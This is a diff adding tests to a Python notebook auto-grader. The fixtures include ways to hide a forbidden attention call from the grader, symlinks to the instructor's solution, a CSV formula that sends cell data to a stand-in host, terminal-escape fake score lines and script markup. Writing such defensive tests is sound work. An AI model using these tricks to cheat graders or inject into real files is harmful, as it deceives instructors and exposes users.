@@ -5,6 +5,7 @@ import csv
 import hashlib
 import io
 import json
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -12,6 +13,7 @@ from pathlib import Path
 import nbformat
 import pytest
 
+from bertbook import sandbox
 from bertbook.grade import grade_notebook
 from bertbook.maint import ROOT, notebooks
 
@@ -179,9 +181,10 @@ def test_a_folder_gives_a_gradebook(tmp_path):
     )
     assert done.returncode == 0, done.stderr
     rows = list(csv.DictReader(io.StringIO((tmp_path / "g.csv").read_text())))
-    assert list(rows[0])[:6] == [
+    assert list(rows[0])[:7] == [
         "student",
         "status",
+        "needs_instructor",
         "00_intro",
         *[f"00_intro/q{i}" for i in (1, 2, 3)],
     ]
@@ -242,3 +245,188 @@ def test_a_forbidden_call_scores_zero_in_the_grader(tmp_path):
     q1 = report.results[0]
     assert q1.points == 0 and "scaled_dot_product_attention" in q1.note
     assert report.points == report.max_points - q1.max_points
+
+
+def _gpt2_with(answer: str, path: Path) -> Path:
+    """The chapter 6 solution with ``causal_attention``'s cell replaced by ``answer``."""
+    nb = nbformat.read(str(ROOT / "solutions" / "06_gpt2.ipynb"), as_version=4)
+    nb.cells[_code_index(nb.cells, "def causal_attention")].source = answer
+    for cell in nb.cells:
+        cell.pop("id", None)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, str(path))
+    return path
+
+
+HIDDEN_FORBIDDEN = {
+    # The forbidden call inside a helper defined outside the answer (a cell of its own).
+    "helper": (
+        "import torch.nn.functional as F\n"
+        "def _attend(q, k, v):\n"
+        "    return F.scaled_dot_product_attention(q, k, v, is_causal=True)\n"
+        "def causal_attention(q, k, v):\n"
+        "    return _attend(q, k, v)\n"
+    ),
+    # An alias taken before: the answer's source never names the function.
+    "alias": (
+        "from torch.nn.functional import scaled_dot_product_attention as fast\n"
+        "def causal_attention(q, k, v):\n"
+        "    return fast(q, k, v, is_causal=True)\n"
+    ),
+    # getattr with a name built at run time.
+    "getattr": (
+        "import torch.nn.functional as F\n"
+        "def causal_attention(q, k, v):\n"
+        "    return getattr(F, 'scaled_dot_' + 'product_attention')(q, k, v, is_causal=True)\n"
+    ),
+}
+
+
+def test_a_forbidden_call_is_seen_however_it_is_reached(tmp_path):
+    cls = tmp_path / "class"
+    for name, answer in HIDDEN_FORBIDDEN.items():
+        _gpt2_with(answer, cls / name / "06_gpt2.ipynb")
+    honest = cls / "honest" / "06_gpt2.ipynb"
+    honest.parent.mkdir()
+    honest.write_bytes((ROOT / "solutions" / "06_gpt2.ipynb").read_bytes())
+    cmd = [sys.executable, "-m", "bertbook.grade", str(cls), "--seed", "1", "-j", "2"]
+    cmd += ["--json", str(tmp_path / "r.json"), "--cell-timeout", "60"]
+    done = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
+    assert done.returncode == 0, done.stderr[-2000:]
+    got = {r["student"]: r for r in json.loads((tmp_path / "r.json").read_text())}
+    full = got["honest"]["max_score"]
+    assert got["honest"]["score"] == full
+    for name in HIDDEN_FORBIDDEN:
+        q1 = got[name]["questions"][0]
+        assert q1["points"] == 0 and "scaled_dot_product_attention" in q1["note"], (name, q1)
+        assert got[name]["score"] == full - q1["max_points"], name  # the rest is unchanged
+
+
+def _grade_class(folder: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
+    out.mkdir()
+    cmd = [sys.executable, "-m", "bertbook.grade", str(folder), "--seed", "3", "-j", "2"]
+    cmd += ["--json", str(out / "r.json"), "--csv", str(out / "g.csv"), *extra]
+    # 3G: at the default 2G a kernel's start-up was seen, under load, to pass RLIMIT_DATA
+    # (dmesg: "VmData ... exceed data ulimit"); that limit is another test's subject.
+    cmd += ["--memory", "3G"]
+    if sandbox.unavailable_reason():
+        cmd.append("--no-sandbox")
+    done = subprocess.run(cmd, capture_output=True, timeout=900)
+    assert done.returncode == 0, done.stderr[-3000:]
+    return done
+
+
+FAKE_ERROR = "raise ValueError('\\x1b[2J\\nScore: 0/8\\n<script>alert(1)</script>')\n"
+
+
+def test_hostile_inputs_beside_honest_ones_in_one_run(tmp_path):
+    """The instructor's class: every honest notebook scores exactly what it scores alone, every
+    hostile input gets a status of its own, nothing stops the run, and no output carries a
+    formula, a control character or markup."""
+    wrong_cosine = "def cosine_similarity(a, b):\n    return (a * b).sum(-1)\n"
+    honest = {
+        "alice": SOLUTION,
+        "bob": _variant(tmp_path, "bob", _replace("def cosine", wrong_cosine)),
+    }
+    alone = tmp_path / "alone"
+    for name, nb in honest.items():
+        (alone / name).mkdir(parents=True)
+        (alone / name / "00_intro.ipynb").write_bytes(nb.read_bytes())
+    _grade_class(alone, tmp_path / "o1")
+    alone_scores = {r["student"]: r["score"] for r in _records(tmp_path / "o1")}
+    assert alone_scores == {"alice": 8, "bob": 5.75}
+
+    cls = tmp_path / "class"
+    for name, nb in honest.items():
+        (cls / name).mkdir(parents=True)
+        (cls / name / "00_intro.ipynb").write_bytes(nb.read_bytes())
+    solution = cls / "carol" / "00_intro.ipynb"
+    solution.parent.mkdir()
+    solution.write_bytes(SOLUTION.read_bytes())
+    (cls / "mallory").mkdir()  # a link to a classmate's notebook
+    (cls / "mallory" / "00_intro.ipynb").symlink_to(cls / "bob" / "00_intro.ipynb")
+    (cls / "trudy").mkdir()  # a link to the instructor's solution
+    (cls / "trudy" / "00_intro.ipynb").symlink_to(SOLUTION)
+    (cls / "zero").mkdir()
+    (cls / "zero" / "00_intro.ipynb").symlink_to("/dev/zero")
+    os.mkfifo(cls / "fifo_00_intro.ipynb")
+    (cls / "oscar" / "bob").mkdir(parents=True)  # oscar/bob/...: not bob's
+    (cls / "oscar" / "bob" / "00_intro.ipynb").write_bytes(SOLUTION.read_bytes())
+    (cls / "dan").mkdir()  # two notebooks for one exercise: a duplicate, never merged
+    (cls / "dan" / "00_intro.ipynb").write_bytes(honest["bob"].read_bytes())
+    (cls / "dan" / "00_intro_final.ipynb").write_bytes(SOLUTION.read_bytes())
+    os.mkdir(os.fsencode(str(cls)) + b"/\xffzed")  # a name that is not UTF-8
+    with open(os.fsencode(str(cls)) + b"/\xffzed/00_intro.ipynb", "wb") as f:
+        f.write(honest["bob"].read_bytes())
+    formula = '=HYPERLINK("http://x.test/?"&A1,"click")'
+    (cls / formula.replace("/", "_")).mkdir()
+    (cls / formula.replace("/", "_") / "00_intro.ipynb").write_bytes(SOLUTION.read_bytes())
+    fake = "eve\x1b[2J\n== alice (00_intro; student alice)\nScore: 0"
+    (cls / fake).mkdir()
+    (cls / fake / "00_intro.ipynb").write_bytes(
+        _variant(tmp_path, "eve", _replace("def softmax(", FAKE_ERROR)).read_bytes()
+    )
+    roster = tmp_path / "roster.csv"
+    roster.write_text("student,name,id\nalice,Alice,1\nbob,Bob,2\ncarol,Carol,3\n")
+    done = _grade_class(cls, tmp_path / "o2", "--canvas", str(tmp_path / "o2" / "c.csv"),
+                        "--roster", str(roster))  # fmt: skip
+    got: dict[str, list] = {}
+    for r in _records(tmp_path / "o2"):
+        got.setdefault(r["student"], []).append(r)
+
+    # Honest students: exactly their alone-scores.
+    for name in honest:
+        assert [(r["status"], r["score"]) for r in got[name]] == [("graded", alone_scores[name])]
+    assert [(r["status"], r["score"]) for r in got["carol"]] == [("graded", 8)]
+    # Hostile inputs: each its own status, never another's score.
+    for name in ("mallory", "trudy", "zero"):
+        assert [(r["status"], r["score"]) for r in got[name]] == [("refused: a symbolic link", 0)]
+    assert [r["status"] for r in got["fifo"]] == ["refused: not a regular file"]
+    assert [r["status"][:30] for r in got["oscar"]] == ["refused: nested 2 folders deep"]
+    assert sorted(r["score"] for r in got["dan"]) == [5.75, 8]
+    assert all(r["status"].startswith("duplicate: 2 notebooks for dan") for r in got["dan"])
+    assert [r["score"] for r in got["\\xffzed"]] == [5.75]
+    formula = formula.replace("/", "_")
+    assert [(r["status"], r["score"]) for r in got[formula]] == [("graded", 8)]  # JSON: as is
+    [eve] = got["eve\\x1b[2J\\n== alice (00_intro; student alice)\\nScore: 0"]
+    assert eve["score"] == 5  # its softmax cell raised: q1 is 0, q2 graded with the reference
+    assert "<script>" in eve["cells"][0]["error"]  # kept as text, escaped where written
+
+    # The terminal: one block per notebook, no control character, no line a student started.
+    stdout = done.stdout.decode("utf-8")
+    assert "\x1b" not in stdout and "\udcff" not in stdout
+    assert sum(line.startswith("Score: ") for line in stdout.splitlines()) == 13
+    assert [line for line in stdout.splitlines() if line.endswith("student alice)")] == [
+        f"== {cls / 'alice' / '00_intro.ipynb'} (00_intro; student alice)"
+    ]
+    # The CSV and Canvas files: every cell text, no formula; rows that need the instructor named.
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "o2" / "g.csv").read_text())))
+    flagged = {r["student"] for r in rows if r["needs_instructor"] == "yes"}
+    assert flagged == {r["student"] for r in rows} - {"alice", "bob", "carol"}
+    assert next(r for r in rows if r["student"] == "dan")["00_intro"] == ""  # never merged
+    assert next(r for r in rows if r["student"] == "'" + formula)["00_intro"] == "8"
+    for name in ("g.csv", "c.csv"):
+        text = (tmp_path / "o2" / name).read_text(encoding="utf-8")
+        assert "\x1b" not in text
+        for row in list(csv.reader(io.StringIO(text)))[1:]:
+            assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@")) for c in row), row
+    canvas = list(csv.reader(io.StringIO((tmp_path / "o2" / "c.csv").read_text())))
+    students = [row[0] for row in canvas[2:]]
+    assert len(students) == len(rows) and "Alice" in students  # every row, the roster's names
+    # JSON: no markup, every notebook.
+    raw = (tmp_path / "o2" / "r.json").read_text()
+    assert "<script>" not in raw and "\x1b" not in raw
+    assert "needs the instructor" in stdout and "not on the roster" in stdout
+
+
+def _replace(start: str, source: str):
+    """An edit for ``_variant``: the code cell starting with ``start`` becomes ``source``."""
+
+    def edit(cells):
+        cells[_code_index(cells, start)].source = source
+
+    return edit
+
+
+def _records(out: Path) -> list[dict]:
+    return json.loads((out / "r.json").read_text())
